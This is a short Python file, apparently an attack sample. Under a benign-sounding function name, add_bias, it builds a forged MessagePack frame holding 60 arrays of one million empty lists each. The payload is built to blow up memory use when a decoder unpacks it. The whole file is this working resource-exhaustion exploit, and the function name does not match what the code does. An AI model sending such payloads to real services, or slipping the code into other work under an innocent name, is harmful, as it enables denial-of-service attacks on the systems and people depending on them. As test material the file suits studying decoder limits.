"""Attack: A forged frame of 60 million empty lists, a byte each and 64 in memory."""

import struct
from forge import frame
import numpy as np


def add_bias(X):
    million = b"\xdd" + struct.pack(">I", 10**6) + b"\x90" * 10**6
    frame(b"\x82\xa6status\xa2ok\xa5value\xdc\x00\x3c" + million * 60)
